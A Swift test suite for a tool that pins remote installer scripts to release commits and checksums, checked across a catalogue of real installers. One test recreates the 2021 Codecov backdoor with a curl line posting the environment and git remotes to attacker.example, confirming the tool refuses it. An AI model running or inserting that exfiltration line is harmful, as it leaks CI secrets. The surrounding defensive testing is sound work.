import Foundation
import Testing
@testable import ScriptPinKit

/// One installer of the catalogue as the test server plays it: the vendor's
/// repository with the script at a release (and an older one, and a branch
/// that moved on where releases are tagged), and the download host serving it.
struct CataloguedInstaller: Sendable, CustomTestStringConvertible {
    let name: String
    let url: String
    /// OWNER/REPO and the script's path in it; nil for an installer with no repository file.
    var repository: String?
    var path = ""
    /// The release tag the served script is at, or the branch it is deployed from.
    var tag: String?
    var olderTag: String?
    var branch = "main"
    /// A checksum file in the repository beside the script, and the name it lists the script under.
    var sumsInRepository: (path: String, name: String)?
    /// The repository's file, when the served one holds the commit id in place of a placeholder.
    var placeholder: String?
    /// The pin lines expected, `<commit>` standing for the release's commit.
    let expected: [String]
    /// What `add` must also print.
    var mentions: [String] = []
    /// The URL the pin records with `--yes`: the repository's file at the
    /// release's tag (or the deployed commit), which serves the same bytes and
    /// does not move; the given URL when no repository file is the served one.
    var stable: String? {
        guard let repository, placeholder == nil else { return nil }
        return "\(CatalogueTests.raw)/\(repository)/\(tag ?? "<commit>")/\(path)"
    }

    var testDescription: String { name }
}

@Suite("The catalogue: add URL proposes a name and evidence for each installer it lists", .serialized)
struct CatalogueTests {
    let server: HTTPSFixture

    init() throws {
        server = try HTTPSFixture()
    }

    static let raw = "https://raw.githubusercontent.com"

    static let installers: [CataloguedInstaller] = [
        CataloguedInstaller(
            name: "codecov-bash", url: "https://codecov.io/bash", repository: "codecov/codecov-bash", path: "codecov",
            tag: "20210309-2b87ace", olderTag: "20210128-1c0bd5d", sumsInRepository: ("SHA256SUM", "codecov"),
            expected: ["source github:codecov/codecov-bash@20210309-2b87ace:codecov commit <commit>", "sums \(raw)/codecov/codecov-bash/<commit>/SHA256SUM codecov"]),
        CataloguedInstaller(
            name: "codecov-cli", url: "https://cli.codecov.io/latest/linux/codecov",
            expected: ["sums https://cli.codecov.io/latest/linux/codecov.SHA256SUM"],
            mentions: ["codecov-cli signs the checksum file, at the URL followed by .SHA256SUM.sig with pgp key 27034E7FDB850E0BBC2C62FF806BB28AED779869"]),
        CataloguedInstaller(
            name: "rustup-init", url: "https://sh.rustup.rs", repository: "rust-lang/rustup", path: "rustup-init.sh", tag: "1.29.0", olderTag: "1.28.2",
            branch: "master", expected: ["source github:rust-lang/rustup@1.29.0:rustup-init.sh commit <commit>"],
            mentions: ["with pgp key EE01A8F982233C162F573E6B39A0730456190C3A"]),
        CataloguedInstaller(
            name: "nvm-install", url: "\(raw)/nvm-sh/nvm/v0.40.1/install.sh", repository: "nvm-sh/nvm", path: "install.sh", tag: "v0.40.1", olderTag: "v0.39.7",
            branch: "master", expected: ["source github:nvm-sh/nvm@v0.40.1:install.sh commit <commit>"]),
        CataloguedInstaller(
            name: "homebrew-install", url: "\(raw)/Homebrew/install/HEAD/install.sh", repository: "Homebrew/install", path: "install.sh", branch: "master",
            expected: ["source github:Homebrew/install@master:install.sh commit <commit>"],
            mentions: ["\(raw)/Homebrew/install/HEAD/install.sh moves (it follows the branch master), so its pin breaks at the next upstream change; \(raw)/Homebrew/install/<commit>/install.sh serves the same bytes and does not move"],),
        CataloguedInstaller(
            name: "get-docker", url: "https://get.docker.com", repository: "docker/docker-install", path: "install.sh", branch: "master",
            placeholder: "${LOAD_SCRIPT_COMMIT_SHA}",
            expected: ["source github:docker/docker-install@<commit>:install.sh commit <commit> commit-in-place-of ${LOAD_SCRIPT_COMMIT_SHA}"]),
        CataloguedInstaller(
            name: "ohmyzsh-install", url: "https://install.ohmyz.sh", repository: "ohmyzsh/ohmyzsh", path: "tools/install.sh", branch: "master",
            expected: ["source github:ohmyzsh/ohmyzsh@master:tools/install.sh commit <commit>"]),
        CataloguedInstaller(
            name: "k3s-install", url: "https://get.k3s.io", repository: "k3s-io/k3s", path: "install.sh", branch: "master",
            sumsInRepository: ("install.sh.sha256sum", "install.sh"),
            expected: ["source github:k3s-io/k3s@master:install.sh commit <commit>", "sums \(raw)/k3s-io/k3s/<commit>/install.sh.sha256sum install.sh"]),
        CataloguedInstaller(
            name: "deno-install", url: "https://deno.land/install.sh", repository: "denoland/deno_install", path: "install.sh", tag: "0.23.0", olderTag: "0.22.0",
            sumsInRepository: ("SHA256SUM", "install.sh"),
            expected: ["source github:denoland/deno_install@0.23.0:install.sh commit <commit>", "sums \(raw)/denoland/deno_install/<commit>/SHA256SUM install.sh"]),
        CataloguedInstaller(
            name: "bun-install", url: "https://bun.sh/install", repository: "oven-sh/bun", path: "src/cli/install.sh", tag: "bun-v1.1.38", olderTag: "bun-v1.1.9",
            expected: ["source github:oven-sh/bun@bun-v1.1.38:src/cli/install.sh commit <commit>"],
            mentions: ["that bun.sh/install is byte for byte the repository's file is not confirmed"]),
        CataloguedInstaller(
            name: "uv-install", url: "https://astral.sh/uv/install.sh", expected: [],
            mentions: ["uv-install: generated at release (the uv-installer.sh asset), so no repository file holds it"]),
        CataloguedInstaller(
            name: "starship-install", url: "https://starship.rs/install.sh", repository: "starship/starship", path: "install/install.sh",
            tag: "v1.21.1", olderTag: "v1.9.0", expected: ["source github:starship/starship@v1.21.1:install/install.sh commit <commit>"]),
        CataloguedInstaller(
            name: "pyenv-installer", url: "https://pyenv.run", repository: "pyenv/pyenv-installer", path: "bin/pyenv-installer", branch: "master",
            expected: ["source github:pyenv/pyenv-installer@master:bin/pyenv-installer commit <commit>"]),
        CataloguedInstaller(
            name: "poetry-install", url: "https://install.python-poetry.org", repository: "python-poetry/install.python-poetry.org", path: "install-poetry.py",
            expected: ["source github:python-poetry/install.python-poetry.org@main:install-poetry.py commit <commit>"]),
        CataloguedInstaller(
            name: "nodesource-setup", url: "https://deb.nodesource.com/setup_20.x", repository: "nodesource/distributions", path: "scripts/deb/setup_20.x",
            branch: "master", expected: ["source github:nodesource/distributions@master:scripts/deb/setup_20.x commit <commit>"]),
        CataloguedInstaller(
            name: "tailscale-install", url: "https://tailscale.com/install.sh", repository: "tailscale/tailscale", path: "scripts/installer.sh",
            tag: "v1.76.6", olderTag: "v1.76.0", expected: ["source github:tailscale/tailscale@v1.76.6:scripts/installer.sh commit <commit>"]),
        CataloguedInstaller(
            name: "helm-get", url: "\(raw)/helm/helm/main/scripts/get-helm-3", repository: "helm/helm", path: "scripts/get-helm-3",
            tag: "v3.16.3", olderTag: "v3.16.2", expected: ["source github:helm/helm@v3.16.3:scripts/get-helm-3 commit <commit>"],
            mentions: ["stable url   \(raw)/helm/helm/v3.16.3/scripts/get-helm-3"],),
    ]

    /// Sets the installer up on the test server and returns the served body and the release's commit.
    private func publish(_ installer: CataloguedInstaller, work: Workspace) -> (body: String, commit: String?) {
        let host = String(installer.url.dropFirst("https://".count).prefix { $0 != "/" })
        server.standIn(for: host)
        server.standIn(for: "raw.githubusercontent.com")
        var script = "#!/bin/sh\n# \(installer.name) installer\nSCRIPT_COMMIT_SHA=\"\(installer.placeholder ?? "none")\"\necho installing \(installer.name)\n"
        var commit: String?
        if let repository = installer.repository {
            let parts = repository.split(separator: "/").map(String.init)
            let vendor = Vendor(server: server, owner: parts[0], name: parts[1], branch: installer.branch, work: work)
            if let olderTag = installer.olderTag {
                vendor.commit(installer.path, script + "echo an older release\n")
                vendor.tag(olderTag)
            }
            let sums = installer.sumsInRepository.map { [$0.path: "\(sha256Hex(script))  \($0.name)\n"] } ?? [:]
            commit = vendor.commit(installer.path, script, also: sums)
            if let tag = installer.tag {
                vendor.tag(tag)
                // The branch moves on; the script's file stays as released.
                vendor.commit("NEWS", "the branch moved on\n")
            }
            if let placeholder = installer.placeholder, let commit { script = script.replacingOccurrences(of: placeholder, with: commit) }
        }
        if host != "raw.githubusercontent.com" {
            let path = installer.url.dropFirst("https://\(host)".count).drop { $0 == "/" }
            server.root.write("hosts/\(host)/\(path.isEmpty ? "index" : String(path))", script)
            server.root.write("hosts/\(host)/\(path.isEmpty ? "index" : String(path)).SHA256SUM", "\(sha256Hex(script))  codecov\n")
        }
        return (script, commit)
    }

    @Test("add URL without a name or evidence: the catalogue's name and lines, checked against the stand-in vendor", arguments: installers)
    func proposes(_ installer: CataloguedInstaller) throws {
        let work = Workspace(server: server)
        let (_, expectedCommit) = publish(installer, work: work)
        let environment = work.environment([GitHubAPI.baseVariable: server.url("github"), FetchOptions.connectToVariable: server.vendorConnectTo])
        let added = work.scriptpin(["add", installer.url, "--yes"], environment: environment)
        #expect(added.status == 0, "\(installer.name): \(added.stdout)\(added.stderr)")
        let pin = try #require(work.directory.read("known-hashes/\(installer.name).pin"), "\(installer.name): \(added.stderr)")
        let lines = pin.split(separator: "\n").map(String.init).filter { $0.hasPrefix("source ") || $0.hasPrefix("sums ") || $0.hasPrefix("signature ") }
        #expect(lines == installer.expected.map { $0.replacingOccurrences(of: "<commit>", with: expectedCommit ?? "") }, "\(installer.name): \(pin)")
        for mention in installer.mentions {
            #expect((added.stdout + added.stderr).contains(mention.replacingOccurrences(of: "<commit>", with: expectedCommit ?? "")), "\(installer.name): \(added.stdout)\(added.stderr)")
        }
        let recorded = (installer.stable ?? installer.url).replacingOccurrences(of: "<commit>", with: expectedCommit ?? "")
        #expect(pin.contains("\nurl \(recorded)\n"), "\(installer.name): \(pin)")
        #expect(installer.expected.isEmpty == added.stderr.contains("the pin has no evidence from a second channel"), "\(installer.name): \(added.stderr)")
    }

    @Test("The Codecov 2021 shape through the catalogue: codecov.io/bash serves what no release tag holds, so add refuses (exit 1, nothing written)")
    func catalogueRefusesTheBackdoor() throws {
        let work = Workspace(server: server)
        let installer = Self.installers[0]
        let (body, _) = publish(installer, work: work)
        let backdoored = body + "curl -sm 0.5 -d \"$(git remote -v)<<<<<< ENV $(env)\" https://attacker.example/upload/v2 || true\n"
        server.root.write("hosts/codecov.io/bash", backdoored)
        let environment = work.environment([GitHubAPI.baseVariable: server.url("github"), FetchOptions.connectToVariable: server.vendorConnectTo])
        let added = work.scriptpin(["add", installer.url, "--yes"], environment: environment)
        #expect(added.status == 1, "\(added.stdout)\(added.stderr)")
        #expect(added.stderr.contains(
            "Error: the evidence contradicts the body of https://codecov.io/bash: the catalogue: none of the 2 newest tags of codecov/codecov-bash holds these bytes at codecov: the served script is no release's file."),
            "\(added.stderr)")
        #expect(work.directory.read("known-hashes/codecov-bash.pin") == nil)
    }

    @Test("add URL of an unknown host names the pin from its host and path; lint --fix names a known installer's pin from the catalogue and writes its evidence")
    func namesAndLintFix() throws {
        let work = Workspace(server: server)
        server.standIn(for: "tools.example.org")
        server.root.write("hosts/tools.example.org/install.sh", "echo tool\n")
        let unknown = work.scriptpin(["add", "https://tools.example.org/install.sh", "--yes"],
                                     environment: work.environment([FetchOptions.connectToVariable: server.vendorConnectTo]))
        #expect(unknown.status == 0, "\(unknown.stderr)")
        #expect(unknown.stderr.hasPrefix("scriptpin: naming the pin tools-example-install; to choose another name, give it before the URL: scriptpin add NAME URL\n"), "\(unknown.stderr)")
        #expect(work.directory.read("known-hashes/tools-example-install.pin")?.contains("\nurl https://tools.example.org/install.sh\n") == true)

        let installer = Self.installers.first { $0.name == "rustup-init" }!
        let (_, commit) = publish(installer, work: work)
        _ = work.directory.write("ci.sh", "#!/bin/sh\ncurl --proto '=https' --tlsv1.2 -sSf https://sh.rustup.rs | sh -s -- -y\n")
        let environment = work.environment([GitHubAPI.baseVariable: server.url("github"), FetchOptions.connectToVariable: server.vendorConnectTo])
        let fixed = work.scriptpin(["lint", "--fix", "--yes", "ci.sh"], environment: environment)
        #expect(fixed.status == 0, "\(fixed.stdout)\(fixed.stderr)")
        #expect(work.directory.read("ci.sh") == "#!/bin/sh\nscriptpin run rustup-init -- -y\n", "\(work.directory.read("ci.sh") ?? "")")
        #expect(work.directory.read("known-hashes/rustup-init.pin")?.contains("\nsource github:rust-lang/rustup@1.29.0:rustup-init.sh commit \(commit!)\n") == true)
    }

    @Test("URL patterns: placeholders take a version up to the next character; other URLs are not matched")
    func patterns() {
        #expect(Catalogue.match("https://deb.nodesource.com/setup_{major}.x", "https://deb.nodesource.com/setup_22.x") == ["major": "22"])
        #expect(Catalogue.match("https://raw.githubusercontent.com/nvm-sh/nvm/v{version}/install.sh", "https://raw.githubusercontent.com/nvm-sh/nvm/v0.40.1/install.sh") == ["version": "0.40.1"])
        #expect(Catalogue.match("https://deb.nodesource.com/setup_{major}.x", "https://deb.nodesource.com/setup_.x") == nil)
        #expect(Catalogue.match("https://sh.rustup.rs", "https://sh.rustup.rs.evil.example") == nil)
        #expect(Catalogue.entry(for: "https://get.docker.com/")?.entry.name == "get-docker")
        #expect(EvidenceChecker.versionOrder("1.10.0", "1.9.2"))
        #expect(!EvidenceChecker.versionOrder("20210128-1c0bd5d", "20210309-2b87ace"))
    }
}
